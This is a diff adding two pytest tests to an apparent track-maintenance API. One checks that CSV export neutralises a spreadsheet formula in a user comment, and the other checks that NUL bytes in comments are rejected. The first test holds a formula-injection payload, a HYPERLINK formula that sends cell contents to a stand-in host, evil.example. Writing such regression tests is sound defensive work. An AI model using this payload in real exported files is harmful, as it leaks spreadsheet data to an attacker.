@@ -304,3 +304,34 @@ def test_the_event_feed_lists_places_with_id_and_status(places_fleet):
     every = c.get(f"{URL}/events", params={"since": 0, "limit": 1000, "every": True}).json()["items"]
     assert len(every) >= len(first["items"])
     assert c.get(f"{URL}/events", params={"since": -1}).json()["field"] == "since"
+
+
+def test_csv_defuses_formulas_and_says_what_a_page_leaves_out(places_fleet):
+    """issue 32 finding 4: an engineer's comment beginning with ``=`` is written as text; a page cut
+    at ``limit`` says how many places the filters match and how many it leaves out."""
+    c, e = places_fleet.clients["viewer"], places_fleet.clients["engineer"]
+    items = _listed(c)["items"]
+    pid = items[0]["id"]
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    r = e.patch(f"{URL}/{pid}/status", json={"status": "acknowledged", "comment": hostile})
+    assert r.status_code == 200, r.text
+    r = c.get(f"{URL}.csv", params={"line_id": LINE, "limit": 1000})
+    rows = {int(x["id"]): x for x in csv.DictReader(io.StringIO(r.text))}
+    assert rows[pid]["status_comment"] == "'" + hostile
+    assert r.headers["x-total-count"] == str(len(items)) and r.headers["x-omitted-count"] == "0"
+    assert any(float(x["peak"]) < 0 for x in rows.values())  # numbers stay numbers
+    cut = c.get(f"{URL}.csv", params={"line_id": LINE, "limit": 1})
+    assert len(list(csv.DictReader(io.StringIO(cut.text)))) == 1
+    assert cut.headers["x-total-count"] == str(len(items)) and cut.headers["x-omitted-count"] == str(len(items) - 1)
+
+
+def test_nul_in_a_body_is_refused_alike_on_both_backends(places_fleet):
+    """issue 32 finding 5: NUL in a status comment is 422 naming ``comment`` (PostgreSQL answered 500,
+    SQLite stored it); nothing is written."""
+    c, e = places_fleet.clients["viewer"], places_fleet.clients["engineer"]
+    p = _listed(c)["items"][0]
+    before = c.get(f"{URL}/{p['id']}").json()["status_history"]
+    r = e.patch(f"{URL}/{p['id']}/status", json={"status": "planned", "comment": "tamping\x00 week 3"})
+    assert r.status_code == 422 and r.json()["field"] == "comment", r.text
+    assert "NUL" in r.json()["detail"]
+    assert c.get(f"{URL}/{p['id']}").json()["status_history"] == before
